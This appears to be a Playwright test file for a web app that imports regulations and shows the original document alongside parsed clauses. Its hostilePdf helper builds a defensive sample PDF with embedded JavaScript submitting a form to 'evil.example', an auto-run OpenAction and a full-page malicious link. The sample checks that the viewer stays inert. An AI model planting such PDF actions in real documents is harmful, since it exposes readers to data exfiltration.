import { AxeBuilder } from "@axe-core/playwright";
import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import type { Page } from "playwright/test";
import { toDocx } from "../bench/import/to-docx";
import { toMarkdown } from "../bench/import/to-markdown";
import { toTypstPdf } from "../bench/import/to-typst";
import { havn } from "../fixtures/papers/havn";
import { expect, test } from "./fixtures";

const SHORT = /Toilettanke tømmes alene/;

/** Imports a file as a source of its own and leaves one on its proposal. */
async function importFile(page: Page, name: string, bytes: Uint8Array | string): Promise<void> {
  await page.goto("/kilder/ny");
  await page.getByLabel("Titel").fill(`Ordensreglement ${name}`);
  await page.getByLabel("Udgiver").fill("Strandvig Havn");
  await page.getByLabel("Udgave").fill("2026");
  const file = { name, mimeType: "application/octet-stream", buffer: Buffer.from(bytes) };
  await page.getByLabel("Fil", { exact: true }).setInputFiles(file);
  await page.getByRole("button", { name: "Læs og foreslå opdeling" }).click();
  // A long paper takes its time to be read.
  await expect(page.getByRole("tree")).toBeVisible({ timeout: 60_000 });
}

const paper = (page: Page) => page.getByRole("dialog", { name: "Papiret" });
const pages = (page: Page) => paper(page).getByRole("region", { name: "Papirets sider" });
const row = (page: Page, name: RegExp) => page.getByRole("treeitem", { name });

/** The printed words lie under a mark, and both are in the pane's view. */
async function expectMarked(page: Page, words: RegExp): Promise<void> {
  const printed = pages(page).getByText(words);
  await expect(printed).toBeInViewport();
  await expect(async () => {
    const [word, view] = [await printed.boundingBox(), await pages(page).boundingBox()];
    const marks = await pages(page).locator(".original-mark").all();
    const boxes = await Promise.all(marks.map((mark) => mark.boundingBox()));
    const over = boxes.find((box) => box && word && Math.abs(box.y + box.height / 2 - (word.y + word.height / 2)) < 6);
    expect(over).toBeTruthy();
    expect(over!.y).toBeGreaterThan(view!.y);
    expect(over!.y + over!.height).toBeLessThan(view!.y + view!.height);
  }).toPass();
}

test("[S19] a clause chosen by keyboard is marked on its page of the paper, in view; the page remembers the paper", async ({
  signIn,
}) => {
  const page = await signIn("tovholder");
  await importFile(page, "havn.pdf", toTypstPdf(havn));
  await expect(page.getByRole("button", { name: "Vis papiret" })).toHaveAttribute("aria-expanded", "false");
  await row(page, /Olie, maling og batterier/).click();
  await page.keyboard.press("o");
  await expect(pages(page)).toBeVisible();
  await page.keyboard.press("ArrowDown");
  await expect(row(page, SHORT)).toBeFocused();
  await expect(paper(page).getByRole("status")).toHaveText("Markeret på side 2.");
  await expectMarked(page, SHORT);
  await expect(paper(page).getByRole("textbox", { name: "Side" })).toHaveValue("2");

  await page.keyboard.press("Home");
  await expect(paper(page).getByRole("status")).toHaveText("Markeret på side 1.");
  await expectMarked(page, /^Ordensreglement for Strandvig Havn$/);

  await paper(page).getByRole("button", { name: "Større" }).click();
  await expect(paper(page).getByText("125 %")).toBeVisible();
  await paper(page).getByRole("textbox", { name: "Side" }).fill("2");
  await page.keyboard.press("Enter");
  await expect(pages(page).getByText(/Toilettanke/)).toBeVisible();

  await page.reload();
  await expect(pages(page)).toBeVisible();
  await page.getByRole("button", { name: "Skjul papiret" }).click();
  await expect(paper(page)).toBeHidden();
  await page.reload();
  await expect(page.getByRole("button", { name: "Vis papiret" })).toBeVisible();
});

test("[S19] an accepted version says each clause's page, and leads there; the arrows go on from one to the next", async ({
  signIn,
}) => {
  const page = await signIn("tovholder");
  await importFile(page, "havn.pdf", toTypstPdf(havn));
  await page.getByRole("button", { name: "Godkend opdelingen" }).click();
  await expect(page).toHaveURL(/kilder\/[^/]+$/);
  const way = page.getByRole("link", { name: "Vis på side 2 i papiret: Stk. 2" });
  await way.last().focus();
  await page.keyboard.press("Enter");
  await expectMarked(page, /Ved grov eller gentagen/);
  await page.keyboard.press("ArrowDown");
  await expect(page.getByRole("link", { name: "Vis på side 2 i papiret: § 16" })).toBeFocused();
  await expectMarked(page, /Reglementet træder i kraft/);
  await expect(page.getByRole("link", { name: "Hent originalen" })).toHaveCount(2);
  expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
});

test("[S19] words that are not in the paper are said not to be", async ({ signIn }) => {
  const page = await signIn("tovholder");
  await importFile(page, "havn.pdf", toTypstPdf(havn));
  await row(page, SHORT).click();
  await page.getByLabel("Tekst", { exact: true }).fill("Noget helt andet, som ingen har skrevet i papiret.");
  await row(page, /Olie, maling/).click();
  await page.getByRole("button", { name: "Vis papiret" }).click();
  await row(page, /Noget helt andet/).click();
  await expect(paper(page).getByRole("status")).toHaveText("Punktets ord står ikke på side 2.");
});

test("[S19] on a narrow screen the paper is a sheet over the tree; axe finds no fault, wide or narrow", async ({
  signIn,
}) => {
  const page = await signIn("tovholder");
  await importFile(page, "havn.pdf", toTypstPdf(havn));
  await page.getByRole("button", { name: "Vis papiret" }).click();
  await expect(pages(page).getByText(/Fartøjer må højst sejle/)).toBeVisible();
  expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);

  await page.setViewportSize({ width: 390, height: 844 });
  await expect(paper(page)).toBeHidden();
  await row(page, SHORT).click();
  await page.getByRole("button", { name: "Vis papiret" }).click();
  await expectMarked(page, SHORT);
  const box = await paper(page).boundingBox();
  expect(box).toEqual({ x: 0, y: 0, width: 390, height: 844 });
  expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
  await page.keyboard.press("Escape");
  await expect(paper(page)).toBeHidden();
  await expect(page.getByRole("button", { name: "Vis papiret" })).toBeFocused();
});

test("[S30] a PDF with scripts, links and forms does nothing when it is looked at, and is kept by no cache", async ({
  signIn,
}) => {
  const page = await signIn("tovholder");
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", () => asked.push("dialog"));
  await importFile(page, "fjendtlig.pdf", await hostilePdf());
  const answer = page.waitForResponse(/\/original$/);
  await page.getByRole("button", { name: "Vis papiret" }).click();
  await expect(pages(page).getByText(/§ 1. Kommunen skal/)).toBeVisible();
  await expect(pages(page).locator("a, input, button, form, iframe, script")).toHaveCount(0);
  await pages(page)
    .getByText(/§ 1. Kommunen skal/)
    .click();
  await expect(page).toHaveURL(/forslag/);
  expect(asked.filter((url) => !url.startsWith(new URL(page.url()).origin))).toEqual([]);
  const headers = (await answer).headers();
  expect(headers["cache-control"]).toBe("private, no-store");
  expect(headers["content-disposition"]).toMatch(/^attachment/);
  expect(headers["content-type"]).toBe("application/octet-stream");
  const worker = asked.find((url) => url.includes("pdf.worker")) ?? "";
  expect((await page.request.get(worker)).headers()["content-security-policy"]).toBe("default-src 'none'");
});

test("[S30] of a paper of five hundred pages only those near the view are held", async ({ signIn }) => {
  const page = await signIn("tovholder");
  await importFile(page, "lang.pdf", await longPdf(500));
  await row(page, /^.*§ 400/).click();
  await page.getByRole("button", { name: "Vis papiret" }).click();
  await expectMarked(page, /§ 400\. Parterne/);
  const field = paper(page).getByRole("textbox", { name: "Side" });
  for (const number of ["1", "120", "333", "500"]) {
    await field.fill(number);
    await field.press("Enter");
    await expect(pages(page).getByText(`§ ${number}. Parterne`)).toBeInViewport();
    expect(await pages(page).locator("canvas").count()).toBeLessThan(6);
    expect(await pages(page).locator(".original-page").count()).toBeLessThan(6);
  }
});

test("[S19] text, Markdown and Word are shown as text with the clause marked", async ({ signIn }) => {
  const page = await signIn("tovholder");
  for (const [name, bytes] of [
    ["havn.md", toMarkdown(havn)],
    ["havn.docx", await toDocx(havn)],
  ] as const) {
    await importFile(page, name, bytes);
    await row(page, SHORT).click();
    if (await page.getByRole("button", { name: "Vis papiret" }).isVisible()) await page.keyboard.press("o");
    const text = paper(page).getByRole("region", { name: "Papirets tekst" });
    await expect(text.locator("mark").first()).toContainText("Toilettanke tømmes alene i pumpestationen på Sydmolen");
    await expect(text.locator("mark").first()).toBeInViewport();
    await expect(paper(page).getByRole("status")).toHaveText("Markeret i teksten.");
  }
  await expect(paper(page).getByText(/Word-filens tekst uden opsætning/)).toBeVisible();
});

test("[S30] a file that cannot be fetched or shown says so, and the tree is there all the same", async ({
  signIn,
  complaints,
}) => {
  complaints.allow(/ERR_FAILED|Failed to load resource/);
  const page = await signIn("tovholder");
  await importFile(page, "havn.pdf", toTypstPdf(havn));
  await page.route(/\/original$/, (route) => route.abort());
  await page.getByRole("button", { name: "Vis papiret" }).click();
  await expect(paper(page).getByRole("alert")).toContainText("Papiret kunne ikke hentes");
  await page.unroute(/\/original$/);
  await page.route(/\/original$/, (route) => route.fulfill({ body: "%PDF-1.7 og så ikke mere" }));
  await paper(page).getByRole("button", { name: "Prøv igen" }).click();
  await expect(paper(page).getByRole("alert")).toContainText("Filen kan ikke vises her");
  await expect(row(page, SHORT)).toBeVisible();
});

/** Everything a PDF can be told to do when it is opened or touched, around two honest clauses. */
async function hostilePdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const sheet = pdf.addPage([595, 842]);
  sheet.drawText("Aftale om samarbejde", { x: 70, y: 760, size: 20, font });
  sheet.drawText("§ 1. Kommunen skal drage omsorg for borgeren, og regionen skal hjælpe.", {
    x: 70,
    y: 700,
    size: 11,
    font,
  });
  sheet.drawText("§ 2. Parterne skal mødes to gange om året og drøfte samarbejdet.", { x: 70, y: 670, size: 11, font });
  pdf.addJavaScript("start", "app.alert('hej'); this.submitForm('https://evil.example/');");
  const field = pdf.getForm().createTextField("navn");
  field.setText("udfyldt");
  field.addToPage(sheet, { x: 70, y: 500, width: 200, height: 24 });
  const action = pdf.context.obj({ Type: "Action", S: "URI", URI: PDFString.of("https://evil.example/") });
  const link = { Type: "Annot", Subtype: "Link", Rect: [0, 0, 595, 842], Border: [0, 0, 0], A: action };
  sheet.node.addAnnot(pdf.context.register(pdf.context.obj(link)));
  pdf.catalog.set(PDFName.of("OpenAction"), pdf.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1)") }));
  return pdf.save();
}

async function longPdf(pageCount: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  // Pages that were all alike would be read as running heads.
  const topics = [
    "havnen",
    "broerne",
    "vejret",
    "maden",
    "skolen",
    "bussen",
    "hallen",
    "klimaet",
    "badet",
    "molen",
    "skoven",
  ];
  for (let number = 1; number <= pageCount; number += 1) {
    const [one, other] = [topics[number % 11], topics[Math.floor(number / 11) % 11]];
    const sheet = pdf.addPage([595, 842]);
    sheet.drawText(`§ ${number}. Parterne drøfter ${one}, før de tager stilling til ${other}.`, {
      x: 70,
      y: 500,
      size: 11,
      font,
    });
    sheet.drawText(`Stk. 2. Om ${other} og ${one} holdes der møde ${number} gange.`, { x: 70, y: 470, size: 11, font });
  }
  return pdf.save();
}
